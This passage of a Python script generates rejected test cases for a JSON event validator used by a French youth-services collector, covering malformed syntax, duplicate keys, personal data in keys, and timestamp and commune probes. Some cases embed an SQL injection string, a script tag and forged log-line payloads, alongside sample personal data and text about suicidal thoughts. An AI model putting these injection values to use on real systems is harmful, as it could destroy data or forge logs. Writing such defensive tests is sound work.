    case(c, "truncated-first-byte-only", t[:1], "malformed_json")
    case(c, "truncated-inside-escape", sub(t, b'"18-21"', b'"18-21\\u00'), "malformed_json")
    case(c, "truncated-after-key", t[: t.index(b'"payload"') + len(b'"payload"')], "malformed_json")
    case(c, "trailing-garbage-letter", t + b"x", "malformed_json")
    case(c, "trailing-extra-brace", t + b"}", "malformed_json")
    case(c, "trailing-second-object", t + b" {}", "malformed_json")
    case(c, "two-events-on-one-line", t + t, "malformed_json")
    case(c, "trailing-comma", t + b",", "malformed_json")
    case(c, "trailing-nul-byte", t + b"\x00", "malformed_json")
    case(c, "trailing-line-comment", t + b" // ok", "malformed_json")
    case(c, "trailing-cr-then-garbage", t + b"\rINFO forged line", "malformed_json")
    case(c, "raw-cr-inside-string", sub(t, b'"pdn-mobile"', b'"pdn-mobile\rINFO forged"'), "malformed_json")
    case(c, "raw-tab-inside-string", sub(t, b'"pdn-mobile"', b'"pdn\tmobile"'), "malformed_json")
    case(c, "block-comment-inside", sub(t, b',"type"', b',/* c */"type"'), "malformed_json")
    case(c, "single-quoted-strings", sub(t, b'"phone"', b"'phone'"), "malformed_json")
    case(c, "trailing-comma-in-object", sub(t, b'"response_delay_minutes":43}', b'"response_delay_minutes":43,}'), "malformed_json")
    case(c, "trailing-comma-in-array", sub(t, b'"mobilite"]', b'"mobilite",]'), "malformed_json")
    case(c, "unquoted-key", sub(t, b'"channel":', b"channel:"), "malformed_json")
    case(c, "jsonp-wrapper", b"cb(" + t + b")", "malformed_json")
    case(c, "invalid-escape-sequence", sub(t, b'"pdn-mobile"', b'"pdn\\x2dmobile"'), "malformed_json")
    case(c, "python-literals", sub(t, b'"in_permanence":true', b'"in_permanence":True'), "malformed_json")


def duplicates():
    """An object giving a key twice is ambiguous (RFC 8259 §4: which value counts depends on the
    reader) and the collector forwards the raw bytes, so the validator refuses it as duplicate_key
    before reading any value, whichever occurrence is invalid and even when both are equal. The
    report names the key only when it is a short plain code (the path is the bare key, not its full
    path)."""
    c = "duplicate-key"
    t = text("contact")
    # The last occurrence is invalid.
    case(c, "dup-event-id-second-invalid", sub(t, b'"type"', b'"event_id":"<script>","type"'), "duplicate_key")
    case(c, "dup-youth-second-email", sub(t, b'"channel"', b'"youth":"lucas.martin@gmail.com","channel"'), "duplicate_key")
    # The first occurrence is hostile and the last one valid: a reader keeping the last value would
    # never look at the first, one keeping the first would read another event.
    case(c, "dup-event-id-first-injection", sub(t, b'"event_id"', b'"event_id":"\'; DROP TABLE contact;--","event_id"'), "duplicate_key")
    case(c, "dup-youth-first-email", sub(t, b'"youth":', b'"youth":"lucas.martin@gmail.com","youth":'), "duplicate_key")
    case(c, "dup-payload-first-with-free-text", sub(t, b',"payload":', b',"payload":{"note":"il va mal, idees suicidaires"},"payload":'), "duplicate_key")
    case(c, "dup-department-75-then-82", sub(t, b'"department":"82"', b'"department":"75","department":"82"'), "duplicate_key")
    case(c, "dup-type-first-unknown", sub(t, b'"type"', b'"type":"contact.deleted","type"'), "duplicate_key")
    case(c, "dup-replacement-youth-first-phone", sub(text("amended"), b'"youth":', b'"youth":"0612345678","youth":'), "duplicate_key")
    # The same value twice: still not one object every reader agrees on.
    case(c, "dup-identical-department", sub(t, b'"department":"82"', b'"department":"82","department":"82"'), "duplicate_key")


def key_echo():
    """Keys that ARE personal data, free text or control characters. A key outside the schema gets
    the value rules (e-mail, phone, date, whitespace, length, printable ASCII, then letters, digits
    and '_' only) before it can be reported by name as unknown_field. A key refused by these rules is
    never quoted: the path stops at the enclosing object and `found` gives only its kind and length.
    So none of these puts personal data into the report, the 400 answer or the dead-letter table,
    forges report lines (652, 653), garbles the path (654) or blows the report up (655). Only a
    plain key (letters, digits, '_', at most 64 characters, e.g. `Event_ID`) is still echoed."""
    c = "key-echo"

    def k(slug, base, parent, key, reason):
        e = ev(base)
        target = _walk(e, parent + ".x")[0] if parent else e
        target[key] = True
        case(c, slug, e, reason)

    k("payload-key-is-an-email-address", "contact", "payload", "lucas.martin@gmail.com", "email_address")
    k("toplevel-key-is-a-phone-number", "attendance", "", "0612345678", "phone_number")
    k("payload-key-is-a-date-of-birth", "attendance", "payload", "2009-04-12", "date_of_birth")
    k("payload-key-is-a-full-name", "concern", "payload", "Lucas Martin", "free_text")
    k("payload-key-is-free-text", "signalement", "payload", "il dit qu'il veut mourir", "free_text")
    k("replacement-key-is-an-email-address", "amended", "payload.replacement", "jade.b@laposte.net", "email_address")
    k("toplevel-key-forges-a-report-line", "enrolled", "", "x\nline 2: event 00000000-forged: valid", "free_text")
    k("payload-key-cr-and-ansi-escape", "enrolled", "payload", "role\r\u001b[2Kline 1: ok", "free_text")
    k("payload-key-with-backticks-garbles-path", "enrolled", "payload", "a`b`c", "invalid_characters")
    k("toplevel-key-60k-chars-echoed-twice", "enrolled", "", "k" * 60_000, "value_too_long")


def probes():
    """Adversarial values that pass every format rule of a lenient reader: leap seconds, loose
    timestamp and date forms in the payload, offsets no time zone has, communes of no or another
    department, personal data inside free identifiers, contradictions within one event. The
    validator accepted all of them before it was fixed; each now gets the reason below."""
    c = "probe"
    # Second 60: not an instant that existed (no leap second since 2016, never at 16:49 local).
    case(c, "leap-second-not-at-end-of-day", setp("contact", "occurred_at", "2025-02-05T16:49:60+01:00"), "invalid_timestamp")
    case(c, "leap-second-slot-end", setp("perm_held", "payload.slot_end", "2025-01-07T20:00:60+01:00"), "invalid_timestamp")
    # 00000: no department 00; 96001: department 96 does not exist.
    case(c, "commune-00000", setp("structure", "payload.commune", "00000"), "invalid_commune")
    case(c, "commune-outside-any-department-96", setp("structure", "payload.commune", "96001"), "invalid_commune")
    # A young person's mobile number, E.164 without its "+", as the concern id.
    case(c, "phone-number-e164-without-plus-in-concern-id", setp("concern", "payload.concern_id", "33612345678"), "phone_number")
    # Forms the published JSON Schema ("format": "date-time" / "date") and occurred_at refuse, which
    # chrono's lenient serde reader accepted in payload fields.
    ts = "invalid_timestamp"
    case(c, "slot-start-offset-without-colon", setp("perm_held", "payload.slot_start", "2025-01-07T18:30:00+0100"), ts)
    case(c, "slot-start-utc-suffix", setp("perm_held", "payload.slot_start", "2025-01-07T18:30:00UTC"), ts)
    case(c, "slot-start-single-digit-month", setp("perm_held", "payload.slot_start", "2025-1-7T18:30:00+01:00"), ts)
    case(c, "slot-start-plus-signed-year", setp("perm_held", "payload.slot_start", "+2025-01-07T18:30:00+01:00"), ts)
    case(c, "starts-on-single-digit-month-and-day", setp("agr_started", "payload.starts_on", "2025-1-5"), "invalid_date")
    case(c, "starts-on-plus-signed-year", setp("agr_started", "payload.starts_on", "+2025-01-05"), "invalid_date")
    # No time zone has +23:59 (real ones span -12:00..+14:00); local time drives the evening and
    # weekend indicators.
    case(c, "occurred-offset-plus-23-59", setp("contact", "occurred_at", "2025-02-05T16:49:05+23:59"), "invalid_timestamp")
    # Paris (75056) registered in department 82: the commune's department must be the envelope's.
    case(c, "commune-in-another-department", setp("structure", "payload.commune", "75056"), "inconsistent_value")
    # A correction whose target is its own event_id.
    case(c, "retraction-targets-itself", setp("retracted", "payload.target_event_id", "86928e48-e4b9-4bd4-9255-9cae963dc159"), "inconsistent_value")
    case(c, "amendment-targets-itself", setp("amended", "payload.target_event_id", "801565fe-0b21-4090-b7fc-a67ead1f4a60"), "inconsistent_value")
    # The same young person both added and leaving in one update.
    case(c, "update-adds-and-removes-same-youth", setp("acc_updated_y", "payload.youths_left", ["yp1_759a12f41ed5bd122ca6918852c21760"]), "inconsistent_value")
    # A permanence reported as held at 10:00 for a slot starting at 18:30 the same day.
    case(c, "held-permanence-recorded-before-its-slot", setp("perm_held", "occurred_at", "2025-01-07T10:00:00+01:00"), "inconsistent_value")
    # A young person's name and date of birth as the referral id (a date 8 to 30 years ago between
    # separators of an identifier).
    case(c, "youth-name-and-birth-date-in-referral-id", setp("ref_made", "payload.referral_id", "lucas.martin.20090412"), "date_of_birth")


def main():
    huge()
    deep()
    invalid_utf8()
    unicode_tricks()
    numbers()
    dates()
    injections()
    wrong_types()
    missing()
    unknown_fields()
    free_text_and_pii_keys()
    key_echo()
    pii_values()
    lists()
    event_types()
    structure_and_syntax()
    duplicates()
    probes()

    # Sanity: the bases are the generator's compact JSON, and every slug is unique.
    for name, line in BASES.items():
        assert dump(json.loads(line)) == line.encode(), name
    slugs = [s for _, s, _, _ in CASES]
    assert len(slugs) == len(set(slugs)), [s for s in slugs if slugs.count(s) > 1]

    cases_dir = os.path.join(OUT, "cases")
    os.makedirs(cases_dir, exist_ok=True)
    for f in os.listdir(cases_dir):
        os.remove(os.path.join(cases_dir, f))
    expected = ["case\treason"]
    counts = {}
    for i, (category, slug, data, reason) in enumerate(CASES, start=1):
        name = "%03d-%s" % (i, slug)
        with open(os.path.join(cases_dir, name + ".json"), "wb") as f:
            f.write(data)
        expected.append("%s\t%s" % (name, reason))
        counts[category] = counts.get(category, 0) + 1
    with open(os.path.join(OUT, "expected.tsv"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(expected) + "\n")
    with open(os.path.join(OUT, "bases.ndjson"), "w", encoding="utf-8", newline="\n") as f:
        f.write("".join(line + "\n" for line in BASES.values()))
    print("%d rejected cases" % len(CASES), file=sys.stderr)
    for category in sorted(counts):
        print("  %-14s %d" % (category, counts[category]), file=sys.stderr)


if __name__ == "__main__":
    main()
